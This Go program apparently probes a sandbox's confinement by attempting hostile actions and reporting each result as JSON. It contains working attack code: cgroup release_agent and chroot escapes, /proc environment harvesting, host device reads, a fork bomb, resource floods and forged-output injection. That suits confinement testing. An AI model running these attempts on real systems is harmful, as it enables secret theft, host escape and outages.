// Tries what a hostile program would try, one attempt for each argument `name=value`, and tells in a line of JSON each what it got.
package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"time"
	"unsafe"
)

type attempt func(string) (string, error)

func main() {
	attempts := map[string]attempt{
		"read": read, "write": write, "list": list, "connect": connect, "unix": unix, "resolve": resolve, "packet": packet,
		"environment": environment, "processes": processes, "kill": kill, "ptrace": ptrace, "mount": mount, "unshare": unshare,
		"device": device, "setuid": setuid, "call": call, "descriptors": descriptors, "files": files, "fill": fill,
		"link": link, "agent": agent, "chroot": chroot, "memory": memory, "threads": threads, "forks": forks, "spin": spin,
		"flood": flood, "line": line, "say": say,
	}
	for _, argument := range os.Args[1:] {
		name, value, _ := strings.Cut(argument, "=")
		fmt.Fprintln(os.Stderr, "tries "+argument)
		got, err := attempts[name](value)
		if err != nil {
			got = "ERROR " + err.Error()
		}
		if len(got) > 2000 {
			got = got[:2000]
		}
		text, _ := json.Marshal(map[string]string{"try": name, "what": value, "got": got})
		fmt.Println(string(text))
	}
}

func read(path string) (string, error) {
	file, err := os.Open(path)
	if err != nil {
		return "", err
	}
	defer file.Close()
	_ = file.SetReadDeadline(time.Now().Add(time.Second))
	content, err := io.ReadAll(io.LimitReader(file, 100000))
	return string(content), err
}

func write(value string) (string, error) {
	path, content, _ := strings.Cut(value, "<")
	file, err := os.OpenFile(path, os.O_WRONLY, 0)
	if err != nil {
		return "", err
	}
	defer file.Close()
	count, err := file.WriteString(content)
	return fmt.Sprintf("wrote %d", count), err
}

func list(path string) (string, error) {
	names, err := filepath.Glob(path)
	return strings.Join(names, " "), err
}

func connect(address string) (string, error) {
	connection, err := net.DialTimeout("tcp", address, 700*time.Millisecond)
	if err != nil {
		return "", err
	}
	connection.Close()
	return "connected", nil
}

func unix(path string) (string, error) {
	// The name of an abstract socket is as long as there is room, where a program has not said how long it is.
	if strings.HasPrefix(path, "@") {
		path += strings.Repeat("\x00", 108-len(path))
	}
	connection, err := net.DialTimeout("unix", path, 700*time.Millisecond)
	if err != nil {
		return "", err
	}
	connection.Close()
	return "connected", nil
}

func resolve(name string) (string, error) {
	connection, err := net.Dial("udp", name)
	if err != nil {
		return "", err
	}
	_, err = connection.Write([]byte("canary"))
	return "sent", err
}

func packet(string) (string, error) {
	_, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, 0x0300)
	return "opened", err
}

func environment(string) (string, error) { return strings.Join(os.Environ(), " "), nil }

func processes(string) (string, error) {
	paths, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	lines := []string{}
	for _, path := range paths {
		text, _ := os.ReadFile(path)
		environ, _ := os.ReadFile(filepath.Join(filepath.Dir(path), "environ"))
		lines = append(lines, string(text)+" "+string(environ))
	}
	return strings.ReplaceAll(strings.Join(lines, "\n"), "\x00", " "), nil
}

func number(text string) int {
	value := 0
	fmt.Sscan(text, &value)
	return value
}

func kill(pid string) (string, error) {
	if pid == "parent" {
		return "sent", syscall.Kill(os.Getppid(), syscall.SIGKILL)
	}
	return "sent", syscall.Kill(number(pid), syscall.SIGKILL)
}

func ptrace(pid string) (string, error) { return "attached", syscall.PtraceAttach(number(pid)) }

func mount(value string) (string, error) {
	parts := strings.Split(value, ",")
	os.MkdirAll("/tmp/mnt", 0o755)
	if err := syscall.Mount(parts[0], "/tmp/mnt", parts[1], 0, ""); err != nil {
		return "", err
	}
	names, _ := filepath.Glob("/tmp/mnt/*")
	return "mounted " + strings.Join(names, " "), nil
}

func unshare(string) (string, error) {
	return "unshared", syscall.Unshare(syscall.CLONE_NEWNS | syscall.CLONE_NEWNET)
}

// Makes the node of a device of the host and reads from it.
func device(value string) (string, error) {
	var major, minor int
	fmt.Sscanf(value, "%d:%d", &major, &minor)
	mode := uint32(syscall.S_IFBLK)
	if major == 1 || major == 10 {
		mode = syscall.S_IFCHR
	}
	path := fmt.Sprintf("/tmp/node%d-%d", major, minor)
	if err := syscall.Mknod(path, mode|0o666, major<<8|minor); err != nil {
		return "", err
	}
	return read(path)
}

func setuid(value string) (string, error) {
	err := syscall.Setuid(number(value))
	return fmt.Sprintf("uid %d", syscall.Getuid()), err
}

// System calls that change or look into a kernel.
func call(name string) (string, error) {
	numbers := map[string]uintptr{
		"bpf": 321, "init_module": 175, "kexec_load": 246, "reboot": 169, "settimeofday": 164, "sethostname": 170, "swapon": 167,
		"open_by_handle_at": 304, "perf_event_open": 298, "userfaultfd": 323, "keyctl": 250, "iopl": 172, "pivot_root": 155,
		"syslog": 103, "process_vm_readv": 310, "io_uring_setup": 425,
	}
	text := []byte("hostile\x00")
	first := uintptr(unsafe.Pointer(&text[0]))
	arguments := [3]uintptr{first, 7, 0}
	if name == "reboot" {
		arguments = [3]uintptr{0xfee1dead, 672274793, 0x1234567}
	}
	if name == "process_vm_readv" {
		arguments = [3]uintptr{1, first, 1}
	}
	result, _, errno := syscall.Syscall6(numbers[name], arguments[0], arguments[1], arguments[2], 0, 0, 0)
	if errno != 0 {
		return "", errno
	}
	return fmt.Sprintf("returned %d", result), nil
}

func descriptors(string) (string, error) {
	for count := 0; ; count++ {
		if _, err := syscall.Open("/dev/null", syscall.O_RDONLY, 0); err != nil {
			return fmt.Sprintf("after %d", count), err
		}
		if count == 2_000_000 {
			return "no end", nil
		}
	}
}

func files(folder string) (string, error) {
	os.MkdirAll(folder, 0o755)
	for count := 0; count < 50_000_000; count++ {
		file, err := os.Create(fmt.Sprintf("%s/%d", folder, count))
		if err != nil {
			return fmt.Sprintf("after %d", count), err
		}
		file.Close()
	}
	return "no end", nil
}

func fill(path string) (string, error) {
	file, err := os.Create(path)
	if err != nil {
		return "", err
	}
	block := make([]byte, 1<<20)
	for count := 0; count < 1<<20; count++ {
		if _, err := file.Write(block); err != nil {
			return fmt.Sprintf("after %d", count), err
		}
	}
	return "no end", nil
}

func link(value string) (string, error) {
	os.Remove("/tmp/link")
	if err := os.Symlink(value, "/tmp/link"); err != nil {
		return "", err
	}
	return read("/tmp/link")
}

// The way out of version 1 of cgroups: a program that the kernel starts, outside, when a group becomes empty.
func agent(path string) (string, error) {
	os.MkdirAll("/tmp/cg", 0o755)
	if err := syscall.Mount("cgroup", "/tmp/cg", "cgroup", 0, "memory"); err != nil {
		return "", err
	}
	os.WriteFile("/tmp/agent.sh", []byte("#!/bin/sh\necho escaped > "+path+"\n"), 0o755)
	os.MkdirAll("/tmp/cg/x", 0o755)
	os.WriteFile("/tmp/cg/x/notify_on_release", []byte("1"), 0o644)
	if err := os.WriteFile("/tmp/cg/release_agent", []byte("/tmp/agent.sh"), 0o644); err != nil {
		return "", err
	}
	child := exec.Command("/proc/self/exe", "say=child")
	child.Start()
	os.WriteFile("/tmp/cg/x/cgroup.procs", []byte(fmt.Sprint(child.Process.Pid)), 0o644)
	child.Wait()
	time.Sleep(300 * time.Millisecond)
	return "set", nil
}

// The way out of a changed root: a second one, with a folder that is open outside of it.
func chroot(path string) (string, error) {
	os.MkdirAll("/tmp/inner", 0o755)
	if err := syscall.Chroot("/tmp/inner"); err != nil {
		return "", err
	}
	for level := 0; level < 64; level++ {
		syscall.Chdir("..")
	}
	if err := syscall.Chroot("."); err != nil {
		return "", err
	}
	return read(path)
}

func memory(string) (string, error) {
	blocks := [][]byte{}
	for {
		block := make([]byte, 16<<20)
		for index := 0; index < len(block); index += 4096 {
			block[index] = 1
		}
		blocks = append(blocks, block)
	}
}

// More threads than it may have, but so few that what Go says of all of them when one is refused fits into the log.
func threads(string) (string, error) {
	for count := 0; count < 100; count++ {
		go func() {
			runtime.LockOSThread()
			select {}
		}()
	}
	select {}
}

// Starts itself until it is refused, then uses the processor, and nothing else.
func forks(string) (string, error) {
	for exec.Command("/proc/self/exe", "forks=").Start() == nil {
	}
	return spin("")
}

func spin(string) (string, error) {
	for {
	}
}

func flood(stream string) (string, error) {
	out := os.Stdout
	if stream == "stderr" {
		out = os.Stderr
	}
	for {
		out.WriteString(strings.Repeat("flood ", 100) + "\n")
	}
}

func line(string) (string, error) {
	for {
		os.Stdout.WriteString(strings.Repeat("x", 65536))
	}
}

// Writes a text as it is, with what stands for bytes: forged results, events, terminal sequences.
func say(value string) (string, error) {
	text := strings.NewReplacer(`\n`, "\n", `\r`, "\r", `\e`, "\x1b", `\0`, "\x00").Replace(value)
	os.Stdout.WriteString(text)
	os.Stderr.WriteString(text)
	return "said", nil
}
